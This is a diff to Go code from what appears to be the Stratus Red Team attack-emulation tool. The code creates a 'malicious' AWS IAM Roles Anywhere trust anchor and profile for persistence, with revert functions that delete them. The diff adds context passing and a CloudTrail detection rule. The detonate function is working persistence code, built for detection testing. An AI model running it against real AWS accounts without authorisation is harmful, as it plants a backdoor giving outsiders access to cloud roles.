@@ -62,12 +62,19 @@ Identify when a trust anchor is created, through CloudTrail's <code>CreateTrustA
 		PrerequisitesTerraformCode: tf,
 		IsIdempotent:               false, // cannot create twice a Trust anchor with the same name
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
-		Detonate:                   detonate,
-		Revert:                     revert,
+		MitreAttackTechniques:      []string{"T1484.002"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"rolesanywhere.amazonaws.com"}, "eventName": {"CreateTrustAnchor"}},
+			},
+			FalsePositives: []string{"Administrators onboarding workloads running outside of AWS"},
+		},
+		DetonateWithContext: detonate,
+		RevertWithContext:   revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	rolesAnywhereClient := rolesanywhere.NewFromConfig(providers.AWS().GetConnection())
 	roleArn := params["role_arn"]
 	tags := []types.Tag{
@@ -75,7 +82,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	}
 
 	log.Println("Creating a malicious trust anchor")
-	trustAnchorResult, err := rolesAnywhereClient.CreateTrustAnchor(context.Background(), &rolesanywhere.CreateTrustAnchorInput{
+	trustAnchorResult, err := rolesAnywhereClient.CreateTrustAnchor(ctx, &rolesanywhere.CreateTrustAnchorInput{
 		Name: aws.String(trustAnchorName),
 		Source: &types.Source{
 			SourceData: types.SourceData(
@@ -90,7 +97,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 		return errors.New("Unable to create malicious trust anchor: " + err.Error())
 	}
 
-	profileResult, err := rolesAnywhereClient.CreateProfile(context.Background(), &rolesanywhere.CreateProfileInput{
+	profileResult, err := rolesAnywhereClient.CreateProfile(ctx, &rolesanywhere.CreateProfileInput{
 		Name:            aws.String(profileName),
 		RoleArns:        []string{roleArn},
 		Enabled:         aws.Bool(true),
@@ -113,17 +120,17 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(_ map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, _ map[string]string, providers stratus.CloudProviders) error {
 	rolesanywhereClient := rolesanywhere.NewFromConfig(providers.AWS().GetConnection())
 
-	errTrustAnchor := removeTrustAnchor(rolesanywhereClient)
-	errProfile := removeProfile(rolesanywhereClient)
+	errTrustAnchor := removeTrustAnchor(ctx, rolesanywhereClient)
+	errProfile := removeProfile(ctx, rolesanywhereClient)
 
 	return utils.CoalesceErr(errTrustAnchor, errProfile)
 }
 
-func removeTrustAnchor(client *rolesanywhere.Client) error {
-	result, err := client.ListTrustAnchors(context.Background(), &rolesanywhere.ListTrustAnchorsInput{
+func removeTrustAnchor(ctx context.Context, client *rolesanywhere.Client) error {
+	result, err := client.ListTrustAnchors(ctx, &rolesanywhere.ListTrustAnchorsInput{
 		PageSize: aws.Int32(500),
 	})
 	if err != nil {
@@ -133,7 +140,7 @@ func removeTrustAnchor(client *rolesanywhere.Client) error {
 	for i := range result.TrustAnchors {
 		if *result.TrustAnchors[i].Name == trustAnchorName {
 			log.Println("Removing malicious trust anchor " + trustAnchorName)
-			_, err := client.DeleteTrustAnchor(context.Background(), &rolesanywhere.DeleteTrustAnchorInput{
+			_, err := client.DeleteTrustAnchor(ctx, &rolesanywhere.DeleteTrustAnchorInput{
 				TrustAnchorId: result.TrustAnchors[i].TrustAnchorId,
 			})
 			if err != nil {
@@ -147,8 +154,8 @@ func removeTrustAnchor(client *rolesanywhere.Client) error {
 	return errors.New("could not find malicious trust anchor")
 }
 
-func removeProfile(client *rolesanywhere.Client) error {
-	profiles, err := client.ListProfiles(context.Background(), &rolesanywhere.ListProfilesInput{
+func removeProfile(ctx context.Context, client *rolesanywhere.Client) error {
+	profiles, err := client.ListProfiles(ctx, &rolesanywhere.ListProfilesInput{
 		PageSize: aws.Int32(500),
 	})
 	if err != nil {
@@ -158,7 +165,7 @@ func removeProfile(client *rolesanywhere.Client) error {
 	for i := range profiles.Profiles {
 		if *profiles.Profiles[i].Name == profileName {
 			log.Println("Removing malicious profile" + profileName)
-			_, err := client.DeleteProfile(context.Background(), &rolesanywhere.DeleteProfileInput{
+			_, err := client.DeleteProfile(ctx, &rolesanywhere.DeleteProfileInput{
 				ProfileId: profiles.Profiles[i].ProfileId,
 			})
 			if err != nil {